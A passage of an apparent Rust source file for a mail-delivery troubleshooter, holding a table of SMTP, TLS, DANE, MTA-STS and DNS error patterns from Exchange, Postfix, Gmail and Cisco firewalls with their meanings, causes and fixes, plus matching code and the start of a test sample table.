        SmtpRejected,
        Sender,
        90,
        ["bad helo"],
        [],
        "Exchange Online Protection refused the sender's EHLO name.",
        [
            "the sender greets with the receiving server's own name (a spambot pattern)",
            "a misconfigured send connector Fqdn"
        ],
        fix_bad_helo
    ),
    p!(
        "exchange-event-2015",
        StarttlsNotOffered,
        Receiver,
        85,
        ["unable to establish tls with the receiving server"],
        [],
        "The on-premises send connector requires TLS, and the receiving server did not offer STARTTLS.",
        [
            "the receiver does not advertise STARTTLS",
            "a firewall in the path strips STARTTLS"
        ],
        fix_no_starttls
    ),
    p!(
        "starttls-required-to-send",
        StarttlsNotOffered,
        Receiver,
        75,
        ["starttls is required to send mail"],
        [],
        "The sender requires TLS and {host} did not offer STARTTLS.",
        [
            "the receiving connector has no usable certificate",
            "a firewall strips STARTTLS"
        ],
        fix_no_starttls
    ),
    // --- DANE (Exchange Online outbound, RFC 8460 result types).
    p!(
        "dane-4.7.321",
        StarttlsNotOffered,
        Receiver,
        90,
        ["starttls-not-supported"],
        [],
        "A DANE sender found valid TLSA records for {host}, but the server does not complete STARTTLS.",
        [
            "STARTTLS is not advertised",
            "the handshake fails",
            "the TLSA records are all unusable for SMTP (PKIX usages 0/1): they still make TLS mandatory (dane-records-unusable)"
        ],
        fix_no_starttls
    ),
    p!(
        "dane-4.7.322",
        CertExpired,
        Receiver,
        90,
        ["certificate-expired"],
        [],
        "A DANE sender found the certificate of {host} expired.",
        [
            "the certificate was not renewed, or the renewed one is not bound",
            "a DANE-EE record still matches its key, which RFC 7672 senders accept, but Exchange Online checks the dates too \
             (dane-exchange-online-interop)"
        ],
        fix_expired
    ),
    p!(
        "dane-4.7.323",
        DaneTlsaInvalid,
        Dns,
        90,
        ["tlsa-invalid"],
        [],
        "No TLSA record of {host} matches the certificate it presents (a probe reports it as dane-no-match).",
        [
            "the certificate or key was renewed and the TLSA record still holds the old digest",
            "a usage-2 record names an intermediate no longer sent",
            "the certificate's validity starts in the future",
            "an attack on the path"
        ],
        fix_tlsa
    ),
    p!(
        "dane-4.7.324",
        DaneDnssecInvalid,
        Dns,
        90,
        ["dnssec-invalid"],
        [],
        "The DNSSEC answers for the destination do not validate, so a DANE sender cannot trust them (a probe through a validating resolver reports dane-dnssec-bogus).",
        [
            "expired RRSIG signatures",
            "a DS record at the registrar matching no key",
            "name servers that disagree"
        ],
        fix_dnssec
    ),
    p!(
        "dane-4.7.325",
        CertNameMismatch,
        Receiver,
        90,
        ["certificate-host-mismatch"],
        [],
        "The certificate of {host} names neither the MX host nor the domain.",
        [
            "the certificate lacks the MX host name",
            "a DANE-EE record matches its key, which RFC 7672 senders accept whatever the names, but Exchange Online checks \
             them too (dane-exchange-online-interop)",
            "an appliance presents its own certificate"
        ],
        fix_name_mismatch
    ),
    // --- MTA-STS: the RFC 8460 §4.3.2.2 result types of a TLS report.
    p!(
        "tlsrpt-sts-policy-fetch-error",
        MtaStsPolicyFetchFailed,
        Receiver,
        80,
        ["sts-policy-fetch-error"],
        [],
        "Senders could not fetch the domain's MTA-STS policy: without a cached copy they deliver as if it had none.",
        [
            "mta-sts.<domain> has no address, or nothing answers on port 443",
            "the policy path redirects (senders follow no redirect) or answers other than 200",
            "the policy is not served as text/plain"
        ],
        fix_sts_fetch
    ),
    p!(
        "tlsrpt-sts-webpki-invalid",
        MtaStsPolicyCertificateInvalid,
        Receiver,
        80,
        ["sts-webpki-invalid"],
        [],
        "The certificate of the domain's MTA-STS policy server (mta-sts.<domain>) is not valid for senders, so they do not use the policy.",
        [
            "the certificate does not name mta-sts.<domain> (a default or wildcard certificate of another name)",
            "the intermediate certificates are not sent",
            "an expired or self-signed certificate"
        ],
        fix_sts_webpki
    ),
    p!(
        "tlsrpt-sts-policy-invalid",
        MtaStsPolicyInvalid,
        Receiver,
        80,
        ["sts-policy-invalid"],
        [],
        "Senders fetched the domain's MTA-STS policy but could not parse it, so they do not apply it.",
        [
            "a missing or misspelt key (version, mode, max_age, mx)",
            "a mode other than enforce, testing or none, or a max_age out of range",
            "an HTML page or another file served at the policy URL"
        ],
        fix_sts_policy
    ),
    // --- Revocation (RFC 5280): what Windows and Exchange say about a chain's CRLs.
    p!(
        "windows-certificate-revoked",
        CertRevoked,
        Receiver,
        80,
        ["the certificate is revoked"],
        [],
        "The CA revoked the certificate of {host}: every sender that checks revocation refuses it.",
        [
            "the certificate was revoked after a key compromise or a reissue, and the old one is still installed",
            "the CA revoked it for a mistake in its issuance"
        ],
        fix_revoked
    ),
    p!(
        "windows-revocation-offline",
        CrlUnreachable,
        Receiver,
        80,
        ["unable to check revocation"],
        [],
        "The revocation of the certificate of {host} cannot be checked: its CRL could not be downloaded.",
        [
            "a firewall or proxy keeps the checking server from the CRL URL (WinHTTP's proxy on Windows)",
            "the CA's CRL is published only over LDAP (a private AD CS CA) or not at all",
            "the CRL server is down"
        ],
        fix_crl_unreachable
    ),
    p!(
        "exchange-revocation-check-failure",
        CrlUnreachable,
        Receiver,
        75,
        ["revocationcheckfailure"],
        [],
        "Exchange cannot check the revocation of its certificate: the CRL it names cannot be downloaded from the server.",
        [
            "the server reaches the internet only through a proxy that WinHTTP does not use",
            "a firewall blocks the CRL URL",
            "the CA's CRL is published only over LDAP or not at all"
        ],
        fix_crl_unreachable
    ),
    p!(
        "tlsrpt-not-trusted",
        CertUntrusted,
        Receiver,
        80,
        ["certificate-not-trusted"],
        [],
        "The certificate of {host} does not chain to a root the sender trusts.",
        [
            "an incomplete chain",
            "a self-signed or private-CA certificate"
        ],
        fix_untrusted
    ),
    // --- DNS.
    p!(
        "exchange-dns-nonexistent",
        DnsNxdomain,
        Dns,
        90,
        ["nonexistentdomain"],
        [],
        "The destination domain or smart host does not exist in DNS.",
        [
            "a typo in the domain or smart host",
            "a lapsed registration or broken delegation"
        ],
        fix_nxdomain
    ),
    p!(
        "dns-query-failed",
        DnsLookupFailed,
        Dns,
        80,
        ["dns query failed"],
        [],
        "The sender could not resolve the destination in DNS.",
        [
            "the destination's name servers fail (SERVFAIL, DNSSEC)",
            "the sender's own DNS servers fail",
            "a smart host name that does not resolve"
        ],
        fix_lookup_failed
    ),
    p!(
        "postfix-host-not-found",
        DnsNxdomain,
        Dns,
        85,
        ["host or domain name not found"],
        [],
        "The recipient domain (or its MX host) does not exist in DNS.",
        [
            "a typo in the domain",
            "a lapsed registration or broken delegation"
        ],
        fix_nxdomain
    ),
    p!(
        "postfix-try-again",
        DnsLookupFailed,
        Dns,
        80,
        ["host not found, try again"],
        [],
        "Postfix could not resolve the destination for now.",
        [
            "the destination's name servers fail",
            "the local resolver fails"
        ],
        fix_lookup_failed
    ),
    p!(
        "postfix-null-mx",
        DnsNullMx,
        Dns,
        85,
        ["nullmx"],
        [],
        "The recipient domain publishes a null MX: it accepts no mail.",
        [
            "deliberate (a domain that does not receive mail)",
            "a leftover parking record"
        ],
        fix_null_mx
    ),
    p!(
        "postfix-numeric-mx",
        DnsMxInvalid,
        Dns,
        85,
        ["numeric domain name in resource data of mx record"],
        [],
        "The recipient domain's MX record names an IP address instead of a host name.",
        ["a DNS panel that accepted an address as MX target"],
        fix_mx_invalid
    ),
    // --- Postfix client.
    p!(
        "postfix-tls-not-offered",
        StarttlsNotOffered,
        Receiver,
        90,
        ["tls is required, but was not offered by host"],
        [],
        "Postfix requires TLS for this destination and {host} did not offer STARTTLS.",
        [
            "the receiver does not advertise STARTTLS (no certificate, TLS off)",
            "a firewall with SMTP inspection strips STARTTLS"
        ],
        fix_no_starttls
    ),
    p!(
        "postfix-handshake-failure",
        TlsHandshakeFailed,
        Receiver,
        85,
        ["cannot start tls: handshake failure"],
        [],
        "The TLS handshake with {host} failed: no protocol version or cipher in common.",
        [
            "the receiver speaks only TLS 1.0/1.1",
            "no cipher suite in common",
            "a firewall breaks the handshake"
        ],
        fix_handshake_failure
    ),
    p!(
        "verify-expired",
        CertExpired,
        Receiver,
        85,
        ["certificate has expired"],
        [],
        "The certificate of {host} has expired.",
        ["the certificate was not renewed, or the renewed one is not installed"],
        fix_expired
    ),
    p!(
        "verify-self-signed",
        CertSelfSigned,
        Receiver,
        85,
        ["self", "signed certificate"],
        ["in certificate chain"],
        "{host} presents a self-signed certificate.",
        [
            "the mail server's default (snake-oil) certificate is still bound",
            "an appliance presents its own certificate"
        ],
        fix_self_signed
    ),
    p!(
        "verify-local-issuer",
        CertChainIncomplete,
        Receiver,
        85,
        ["unable to get local issuer certificate"],
        [],
        "The chain {host} sends does not lead to a trusted root: usually the intermediate is missing.",
        [
            "the server sends its certificate without the intermediate",
            "a private CA"
        ],
        fix_chain
    ),
    p!(
        "verify-not-yet-valid",
        CertNotYetValid,
        Receiver,
        85,
        ["not yet valid"],
        [],
        "The certificate of {host} is not valid yet.",
        [
            "it was installed before its start date",
            "a wrong clock on the issuing or the checking machine"
        ],
        fix_not_yet_valid
    ),
    p!(
        "postfix-verify-failed",
        CertUntrusted,
        Receiver,
        70,
        ["certificate verification failed"],
        [],
        "Postfix could not verify the certificate of {host}.",
        [
            "an incomplete chain",
            "a self-signed or private-CA certificate",
            "an expired certificate"
        ],
        fix_untrusted
    ),
    p!(
        "postfix-untrusted-issuer",
        CertUntrusted,
        Receiver,
        75,
        ["untrusted issuer"],
        [],
        "The certificate of {host} is not issued by a CA Postfix trusts.",
        ["an incomplete chain", "a private CA"],
        fix_untrusted
    ),
    p!(
        "postfix-connect-refused",
        ConnectRefused,
        Path,
        80,
        ["connect to", "connection refused"],
        [],
        "{host} refused the TCP connection.",
        [
            "nothing listens on the port",
            "a firewall rejects the connection"
        ],
        fix_connect_refused
    ),
    p!(
        "postfix-connect-timeout",
        ConnectTimeout,
        Path,
        80,
        ["connect to", "connection timed out"],
        [],
        "The TCP connection to {host} timed out.",
        [
            "a firewall drops the packets",
            "the sender's network blocks outbound port 25"
        ],
        fix_connect_timeout
    ),
    p!(
        "no-route",
        ConnectFailed,
        Path,
        70,
        ["no route to host"],
        [],
        "There is no route to {host}.",
        ["a wrong address in DNS", "a routing or firewall problem"],
        fix_connect_failed
    ),
    p!(
        "network-unreachable",
        ConnectFailed,
        Path,
        70,
        ["network is unreachable"],
        [],
        "The sender has no route to {host}'s network (often IPv6 without connectivity).",
        [
            "an AAAA record while the sender has no IPv6 route",
            "a routing problem"
        ],
        fix_connect_failed
    ),
    p!(
        "postfix-greeting-timeout",
        BannerTimeout,
        Path,
        85,
        ["timed out while receiving the initial server greeting"],
        [],
        "{host} accepted the connection but sent no greeting in time.",
        [
            "a tarpit or SMTP-inspecting proxy holds the connection",
            "an overloaded server"
        ],
        fix_banner_timeout
    ),
    p!(
        "postfix-lost-connection",
        SmtpConnectionClosed,
        Path,
        70,
        ["lost connection with"],
        [],
        "{host} closed the connection in the middle of the dialogue.",
        [
            "a firewall or IPS drops the session",
            "the receiver's connection limits"
        ],
        fix_closed
    ),
    p!(
        "postfix-tls-library",
        TlsHandshakeFailed,
        Receiver,
        60,
        ["tls library problem"],
        [],
        "The TLS library reported an error during the handshake with {host}.",
        [
            "no protocol or cipher in common",
            "a broken peer or middlebox"
        ],
        fix_handshake_failure
    ),
    p!(
        "openssl-wrong-version",
        TlsModeMismatch,
        Unknown,
        75,
        ["wrong version number"],
        [],
        "TLS was started where the other side spoke plain SMTP (or the reverse).",
        ["implicit TLS used on a STARTTLS port (25, 587), or STARTTLS on 465"],
        fix_mode_mismatch
    ),
    // --- Postfix server.
    p!(
        "postfix-tls-local-problem",
        StarttlsRejected,
        Receiver,
        90,
        ["tls not available due to local problem"],
        [],
        "The receiving server advertises STARTTLS but cannot start TLS: it cannot load its certificate or key.",
        [
            "the certificate or key file is missing or unreadable (a broken path after renewal)",
            "the key does not match the certificate"
        ],
        fix_tls_unavailable
    ),
    p!(
        "postfix-ssl-accept",
        TlsHandshakeFailed,
        Unknown,
        70,
        ["ssl_accept error from"],
        [],
        "A client failed the TLS handshake with this Postfix server.",
        [
            "a scanner or a client that gave up (often harmless)",
            "no protocol or cipher in common",
            "no certificate loaded"
        ],
        fix_ssl_accept
    ),
    p!(
        "must-issue-starttls",
        TlsRequired,
        Sender,
        65,
        ["must issue a starttls command first"],
        // Relayed by Exchange from Exchange Online Protection, it is EOP withholding
        // STARTTLS (eop-withheld-starttls), not this sender skipping it.
        ["primary target ip address responded with"],
        "The receiver requires TLS and the sender sent MAIL FROM without STARTTLS.",
        [
            "the sending server does not use TLS",
            "something in the path removed STARTTLS"
        ],
        fix_tls_required
    ),
    p!(
        "fortimail-not-tls",
        TlsRequired,
        Sender,
        85,
        ["connection is not tls encrypted"],
        [],
        "The receiver requires TLS and the connection was not encrypted.",
        ["the sender (FortiMail: connection-type regular) does not use STARTTLS"],
        fix_tls_required
    ),
    // --- Blocklists and rate limits.
    p!(
        "blocked-using",
        EgressIpBlocklisted,
        Reputation,
        90,
        ["blocked using"],
        [],
        "The receiver refuses the sending address because a DNS blocklist holds it.",
        [
            "the address sent spam or hosts an infected machine",
            "a dynamic (PBL) address sending directly"
        ],
        fix_blocked_using
    ),
    p!(
        "too-many-connections",
        SmtpRateLimited,
        Reputation,
        75,
        ["too many connections from"],
        [],
        "The receiver limits connections from the sending address.",
        ["too many parallel connections (scanners, a mail burst)"],
        fix_rate_limited
    ),
    // --- Middleboxes (Cisco ASA inspect esmtp and kin).
    p!(
        "cisco-command-xxxx",
        MiddleboxStarttlsMangled,
        Path,
        90,
        ["command unrecognized", "xxxx"],
        [],
        "A firewall with SMTP inspection rewrote a command (STARTTLS) into X's, and the server did not recognise it.",
        ["Cisco ASA/PIX inspect esmtp without allow-tls"],
        fix_starttls_mangled
    ),
    p!(
        "postfix-command-not-recognized",
        MiddleboxStarttlsMangled,
        Path,
        65,
        ["502 5.5.2 error: command not recognized"],
        [],
        "Postfix did not recognise a command: when STARTTLS was sent, a firewall in the path rewrote it.",
        ["Cisco ASA/PIX inspect esmtp rewrites commands it does not allow into X's"],
        fix_starttls_mangled
    ),
    p!(
        "cisco-masked-banner",
        MiddleboxMaskedBanner,
        Path,
        85,
        ["220 ****"],
        [],
        "The greeting is masked with asterisks: a Cisco ASA with ESMTP inspection is in the path.",
        [
            "Cisco ASA/PIX/FWSM inspect esmtp with mask-banner (default), which also removes STARTTLS (no allow-tls)"
        ],
        fix_masked_banner
    ),
    p!(
        "cisco-masked-keyword",
        MiddleboxMaskedKeywords,
        Path,
        85,
        ["250-xxxxxxx"],
        [],
        "EHLO keywords are overwritten with X's: a firewall with SMTP inspection is in the path.",
        [
            "Cisco ASA/PIX inspect esmtp masks keywords it does not allow, STARTTLS among them by default"
        ],
        fix_masked_keywords
    ),
    p!(
        "cisco-esa-starttls-not-supported",
        SmtpReplyIrregular,
        Receiver,
        80,
        ["starttls command not supported"],
        [],
        "A Cisco ESA found no STARTTLS where the receiver lists it: the receiver puts its capabilities before the greeting line.",
        ["capabilities listed before the EHLO greeting line (RFC 1869 ordering)"],
        fix_ordering
    ),
    // --- Exchange Server queue errors (on premises → anywhere).
    p!(
        "exchange-winsock-10060",
        ConnectTimeout,
        Path,
        85,
        ["error code", "10060"],
        [],
        "The Exchange server's connection attempts to {host} timed out (Winsock 10060).",
        [
            "a firewall drops outbound port 25 (the ISP or the local firewall)",
            "the destination drops the packets"
        ],
        fix_connect_timeout
    ),
    p!(
        "exchange-winsock-10061",
        ConnectRefused,
        Path,
        85,
        ["error code", "10061"],
        [],
        "{host} refused the Exchange server's connection (Winsock 10061).",
        [
            "nothing listens on the port",
            "a firewall rejects the connection"
        ],
        fix_connect_refused
    ),
    p!(
        "exchange-421-4.2.1-unable",
        ConnectTimeout,
        Path,
        75,
        ["421 4.2.1 unable to connect"],
        [],
        "The Exchange server could not open a connection to {host}.",
        [
            "outbound port 25 is blocked (the ISP or a firewall)",
            "the destination does not answer on port 25",
            "a wrong smart host address"
        ],
        fix_connect_timeout
    ),
    p!(
        "exchange-421-4.4.1-timed-out",
        ConnectTimeout,
        Path,
        75,
        ["421 4.4.1 connection timed out"],
        [],
        "The Exchange server's connection to {host} timed out.",
        [
            "outbound port 25 is blocked or the destination drops it",
            "a TLS failure on the sending side (UnknownCredentials in the send protocol log)"
        ],
        fix_connect_timeout
    ),
    // --- Gmail and other senders.
    p!(
        "gmail-certificate-host",
        CertNameMismatch,
        Receiver,
        85,
        ["tls negotiation failed, the certificate doesn't match the host"],
        [],
        "Gmail refused the certificate of {host}: not a publicly trusted certificate for the host name it connected to.",
        [
            "a self-signed certificate (Gmail reports it with the same words)",
            "the certificate lacks the host name Gmail connected to"
        ],
        fix_name_mismatch
    ),
    p!(
        "mta-sts-validation",
        CertUntrusted,
        Receiver,
        75,
        ["failed mta-sts validation"],
        [],
        "The certificate of {host} failed the sender's MTA-STS check (trusted chain, valid dates, the MX name).",
        [
            "an untrusted or self-signed certificate",
            "an expired certificate",
            "the certificate lacks the MX host name"
        ],
        fix_untrusted
    ),
    p!(
        "exchange-selfsigned-status",
        CertSelfSigned,
        Receiver,
        75,
        ["valid but it is selfsigned"],
        [],
        "Exchange reports the certificate as self-signed.",
        ["the self-signed certificate Exchange creates at setup is still the one bound to SMTP"],
        fix_self_signed
    ),
    p!(
        "postfix-ssl-connect",
        TlsHandshakeFailed,
        Receiver,
        70,
        ["ssl_connect error to"],
        [],
        "The TLS handshake with {host} failed on Postfix's side as a client.",
        [
            "no protocol or cipher in common",
            "the peer or a middlebox broke the connection"
        ],
        fix_handshake_failure
    ),
    p!(
        "no-shared-cipher",
        TlsHandshakeFailed,
        Receiver,
        75,
        ["no shared cipher"],
        [],
        "Client and server had no cipher suite in common.",
        [
            "the server has no certificate loaded (Postfix then aborts with no shared cipher)",
            "cipher settings that exclude what clients offer"
        ],
        fix_handshake_failure
    ),
    p!(
        "unsupported-protocol",
        TlsLegacyOnly,
        Receiver,
        75,
        ["unsupported protocol"],
        [],
        "The peer offered only a TLS version the other side refuses (TLS 1.0/1.1).",
        [
            "the receiver speaks only TLS 1.0/1.1",
            "a legacy appliance in the path"
        ],
        fix_legacy
    ),
    p!(
        "alert-handshake-failure",
        TlsHandshakeFailed,
        Receiver,
        65,
        ["alert handshake failure"],
        [],
        "The peer aborted the TLS handshake.",
        [
            "no protocol version or cipher in common",
            "no certificate loaded on the server"
        ],
        fix_handshake_failure
    ),
    p!(
        "postfix-not-verified",
        CertUntrusted,
        Receiver,
        60,
        ["server certificate not verified"],
        [],
        "Postfix could not verify the certificate of {host} at a security level that requires it.",
        [
            "an incomplete chain",
            "a self-signed or private-CA certificate",
            "the certificate lacks the name checked"
        ],
        fix_untrusted
    ),
    // --- Certificate strings senders log.
    p!(
        "remote-name-mismatch",
        CertNameMismatch,
        Receiver,
        80,
        ["remotecertificatenamemismatch"],
        [],
        "The client connected by a name the certificate does not carry.",
        [
            "connecting by IP address or an internal name",
            "the certificate lacks the host name"
        ],
        fix_name_mismatch
    ),
    p!(
        "checktls-hostname",
        CertNameMismatch,
        Receiver,
        80,
        ["hostname does not verify"],
        [],
        "The certificate of {host} does not carry the MX host name.",
        ["the certificate lacks the MX host name"],
        fix_name_mismatch
    ),
    p!(
        "subject-does-not-match",
        CertNameMismatch,
        Receiver,
        75,
        ["subject does not match the passed value"],
        [],
        "Exchange found that the certificate does not carry the name it checked.",
        ["the certificate lacks the connector's FQDN"],
        fix_name_mismatch
    ),
    p!(
        "root-not-trusted",
        CertUntrusted,
        Receiver,
        70,
        ["root certificate which is not trusted"],
        [],
        "The certificate chain ends in a root the checking side does not trust.",
        [
            "the intermediate certificates are not sent",
            "a private root"
        ],
        fix_untrusted
    ),
    p!(
        "ee-key-too-small",
        CertWeakKey,
        Receiver,
        80,
        ["key too"],
        ["signature"],
        "The certificate's key is too small for the checking side.",
        ["an RSA key under 2048 bits"],
        fix_weak_key
    ),
    p!(
        "ca-md-too-weak",
        CertWeakSignature,
        Receiver,
        80,
        ["digest algorithm too weak"],
        [],
        "A certificate in the chain is signed with SHA-1 or MD5.",
        ["an old certificate or intermediate with a SHA-1 signature"],
        fix_weak_signature
    ),
    p!(
        "unsupported-purpose",
        CertNoServerAuth,
        Receiver,
        80,
        ["unsupported certificate purpose"],
        [],
        "The certificate is not valid for a TLS server (no serverAuth extended key usage).",
        ["a certificate from a client or e-mail template"],
        fix_server_auth
    ),
    p!(
        "postfix-not-designated",
        CertNoServerAuth,
        Receiver,
        85,
        ["not designated for use as a server certificate"],
        [],
        "The certificate of {host} is not valid for a TLS server (no serverAuth extended key usage).",
        ["a certificate from a client or e-mail template"],
        fix_server_auth
    ),
    p!(
        "postfix-refused-to-start-tls",
        StarttlsRejected,
        Receiver,
        70,
        ["refused to start tls"],
        [],
        "{host} advertised STARTTLS but answered the command with an error.",
        [
            "the server cannot load its certificate or key (454)",
            "a firewall in the path rewrote the command (500/502)"
        ],
        fix_tls_unavailable
    ),
    // --- Exchange protocol logs: an EHLO answered without STARTTLS.
    p!(
        "protocol-log-no-starttls",
        StarttlsNotOffered,
        Receiver,
        60,
        [",>,ehlo ", ",<,250"],
        ["starttls"],
        "The protocol log shows an EHLO answered without STARTTLS: the receiving side did not offer TLS.",
        [
            "the receive connector has no usable certificate for its Fqdn, or lacks Tls in AuthMechanism",
            "a firewall with SMTP inspection strips STARTTLS",
            "the receiver withholds STARTTLS from a listed sender address"
        ],
        fix_no_starttls
    ),
    // --- Added after the new-user trial of issue 10 (public texts, cited in the samples).
    p!(
        "postfix-untrusted-globalsign-root",
        CertUntrusted,
        Sender,
        92,
        ["untrusted issuer", "globalsign root"],
        [],
        "The sending Postfix could not verify {host}'s certificate up to GlobalSign's root, which every public trust store holds: the sender's own trust store is missing or not configured.",
        [
            "smtp_tls_CAfile / smtp_tls_CApath are unset or point at a file without the public roots (Postfix trusts nothing by default)",
            "the sender runs chrooted and cannot read the system's CA bundle"
        ],
        fix_sender_ca_store
    ),
    p!(
        "starttls-required-not-advertised",
        StarttlsNotOffered,
        Receiver,
        85,
        ["starttls required but not advertised"],
        [],
        "The sender requires TLS for {host}, and {host} does not advertise STARTTLS.",
        [
            "the receiver's listener has no certificate or TLS turned off",
            "a firewall in front of the receiver strips STARTTLS",
            "the receiver withholds STARTTLS from this sender (Exchange Online Protection does so from blocklisted addresses)"
        ],
        fix_no_starttls
    ),
    p!(
        "remote-does-not-support-tls",
        StarttlsNotOffered,
        Receiver,
        85,
        ["does not support tls"],
        [],
        "The remote server does not offer STARTTLS, and the sending side requires TLS for it.",
        [
            "the receiver's listener has no certificate or TLS turned off",
            "a firewall in front of the receiver strips STARTTLS"
        ],
        fix_no_starttls
    ),
    p!(
        "dane-5.7.321-bare",
        StarttlsNotOffered,
        Receiver,
        80,
        [".7.321"],
        [],
        "The DANE-checking sender found that {host} does not offer STARTTLS (5.7.321 starttls-not-supported).",
        [
            "the receiver's listener has no certificate or TLS turned off",
            "a firewall in front of the receiver strips STARTTLS"
        ],
        fix_no_starttls
    ),
    p!(
        "tls-handshake-failed-plain",
        TlsHandshakeFailed,
        Unknown,
        60,
        ["tls handshake failed"],
        [],
        "The TLS handshake between the sender and {host} failed.",
        [
            "no protocol version or cipher in common (one side speaks only TLS 1.0/1.1, or only old ciphers)",
            "the receiver's certificate or key cannot be loaded",
            "a device in the path breaks the handshake"
        ],
        fix_handshake_failure
    ),
    p!(
        "exchange-tls-negotiation-socketerror",
        TlsLegacyOnly,
        Sender,
        90,
        ["tls negotiation failed with error socketerror"],
        [],
        "The on-premises Exchange server could not negotiate TLS with Exchange Online: it offers only TLS 1.0/1.1, which Exchange Online refuses.",
        [
            "TLS 1.2 is disabled on the on-premises Exchange server (SCHANNEL) or .NET does not use it (SchUseStrongCrypto)",
            "a device in the path breaks the TLS session"
        ],
        fix_legacy
    ),
];

/// The receiving server's kind and the context of the fixes, for `x` and `lower`.
fn context<'a>(x: &'a Extracted, lower: &'a str) -> Ctx<'a> {
    Ctx {
        x,
        lower,
        port: x.port.unwrap_or(25),
        receiver: receiver_kind(lower),
    }
}

/// The indices of the patterns that match `lower`, best first.
pub fn matching(lower: &str) -> Vec<usize> {
    let mut hit: Vec<usize> = PATTERNS
        .iter()
        .enumerate()
        .filter(|(_, p)| {
            p.all.iter().all(|n| lower.contains(n)) && !p.none.iter().any(|n| lower.contains(n))
        })
        .map(|(i, _)| i)
        .collect();
    hit.sort_by_key(|i| (std::cmp::Reverse(PATTERNS[*i].weight), *i));
    hit
}

/// What `text` (already cut) matches, best first, one per code.
pub fn matches(text: &str, x: &Extracted) -> Vec<Match> {
    let lower = text.to_ascii_lowercase();
    let ctx = context(x, &lower);
    let mut out: Vec<Match> = Vec::new();
    // Where the patterns' phrases are: a catalogue string inside one is already explained.
    let mut spans: Vec<(usize, usize)> = Vec::new();
    for i in matching(&lower) {
        let p = &PATTERNS[i];
        spans.extend(
            p.all
                .iter()
                .filter_map(|n| lower.find(n).map(|at| (at, at + n.len()))),
        );
        if out.iter().any(|m| m.code == p.code) {
            continue;
        }
        let matched = p
            .all
            .iter()
            .filter_map(|n| {
                lower
                    .find(n)
                    .map(|at| super::extract::clean(&text[at..at + n.len()]))
            })
            .collect::<Vec<_>>()
            .join(" … ");
        out.push(build(p, matched, &ctx));
    }
    // Then the sender strings of the catalogue that no pattern caught, longest first: the
    // code's first pattern says who is at fault and what to do.
    let mut extra: Vec<(usize, &Pattern, String)> = Vec::new();
    for e in crate::diagnose::catalogue::CATALOGUE {
        if out.iter().any(|m| m.code == e.code) {
            continue;
        }
        let Some(p) = PATTERNS.iter().find(|p| p.code == e.code) else {
            continue;
        };
        let best = e
            .sender_strings
            .iter()
            .filter(|s| s.len() >= MIN_SENDER_STRING && unambiguous(s))
            .filter_map(|s| {
                let needle = s.to_ascii_lowercase();
                lower
                    .find(&needle)
                    .filter(|at| {
                        let end = at + needle.len();
                        !spans.iter().any(|(a, b)| *a < end && *at < *b)
                    })
                    .map(|at| (s.len(), super::extract::clean(&text[at..at + needle.len()])))
            })
            .max_by_key(|(len, _)| *len);
        if let Some((len, matched)) = best {
            extra.push((len, p, matched));
        }
    }
    extra.sort_by_key(|(len, _, _)| std::cmp::Reverse(*len));
    out.extend(extra.into_iter().map(|(_, p, m)| build(p, m, &ctx)));
    out
}

/// The shortest catalogue sender string matched on its own (shorter ones are too common).
const MIN_SENDER_STRING: usize = 12;

/// A sender string that only one catalogue code lists: on its own, it names that code.
fn unambiguous(s: &str) -> bool {
    crate::diagnose::catalogue::CATALOGUE
        .iter()
        .filter(|e| e.sender_strings.contains(&s))
        .count()
        == 1
}

/// The answer of pattern `p` for the words `matched`.
fn build(p: &Pattern, matched: String, ctx: &Ctx<'_>) -> Match {
    let host = ctx.host().map_or("the receiving server", |h| h);
    Match {
        code: p.code,
        side: p.side,
        matched,
        meaning: p.meaning.replace("{host}", host),
        causes: p.causes.iter().map(|c| (*c).to_string()).collect(),
        fix: (p.fix)(ctx),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::explain::extract::extract;

    /// (sample, the code it must be explained as first, its source).
    const SAMPLES: &[(&str, Code, &str)] = &[
        (
            "Reason: [{LED=450 4.7.320 Certificate validation failed [Message=SubjectMismatch] [LastAttemptedServerName=mail.contoso.com] [LastAttemptedIP=203.0.113.5:25]};{MSG=};{FQDN=mail.contoso.com};{IP=203.0.113.5}]",
            Code::CertNameMismatch,
            "Microsoft Learn (archive), 'Mail not routing to on-premise Exchange 2013 environment from O365 with 450 4.7.320 certificate validation failed error'",
        ),
        (
            "450 4.7.320 Certificate validation failed [Message=ChainTrust] [LastAttemptedServerName=mail.contoso.com]",
            Code::CertUntrusted,
            "composed: the 4.7.320 line cited above with the ChainTrust detail the issue 10 brief names (no public sample found)",
        ),
        (
            "450 4.7.320 Certificate validation failed [Message=CertificateExpired] [LastAttemptedServerName=mail.contoso.com]",
            Code::CertExpired,
            "composed: the 4.7.320 line cited above with an expiry detail (field-notes.md §2 names expiry as a cause; no public sample found)",
        ),
        (
            "450 4.7.320 Certificate validation failed",
            Code::CertNameMismatch,
            "xostmoen.wordpress.com, '450 4.7.320 Certificate validation failed' (2017)",
        ),
        (
            "LED=450 4.4.317 Cannot connect to remote server [Message=451 5.7.3 STARTTLS is required to send mail] [LastAttemptedServerName=mail.contoso.com] [LastAttemptedIP=203.0.113.5:25]",
            Code::StarttlsNotOffered,
            "ex-shell.com, 'Error: 450 4.4.317 Cannot connect to remote server 451 5.7.3 STARTTLS is required to send mail' (2022)",
        ),
        (
            "450 4.4.317 Cannot connect to remote server [Message=421 4.3.2 Service not available]",
            Code::SmtpTemporaryRefusal,
            "Microsoft Learn, 'Email non-delivery reports and SMTP errors in Exchange Online' (4.4.317)",
        ),
        (
            "Microsoft Exchange could not find a certificate that contains the domain name SRVEX01.domain.local in the personal store on the local computer. Therefore, it is unable to support the STARTTLS SMTP verb for the connector Default Frontend SRVEX01",
            Code::StarttlsNotOffered,
            "blog.expta.com, 'How to fix MSExchangeTransport Event ID 12014' (2010); seed 001",
        ),
        (
            "LED=450 4.4.316 Connection refused [Message=Socket error code 10061] [LastAttemptedServerName=mail.contoso.com] [LastAttemptedIP=203.0.113.5:25]",
            Code::ConnectRefused,
            "blog.rmilne.ca, 'Mail Not Flowing From Office 365 To On-Premises Exchange Server' (2018)",
        ),
        (
            "LED=450 4.4.315 Connection timed out [LastAttemptedServerName=mail.contoso.com]",
            Code::ConnectTimeout,
            "Microsoft Learn, 'Email non-delivery reports and SMTP errors in Exchange Online' (4.4.315)",
        ),
        (
            "450 4.4.318 Connection was closed abruptly [LastAttemptedServerName=mail.contoso.com]",
            Code::SmtpConnectionClosed,
            "Microsoft Learn, 'Email non-delivery reports and SMTP errors in Exchange Online' (4.4.318)",
        ),
        (
            "451 4.4.0 SMTPSEND.SuspiciousRemoteServerError; remote server disconnected abruptly; retry will be delayed",
            Code::TlsLegacyOnly,
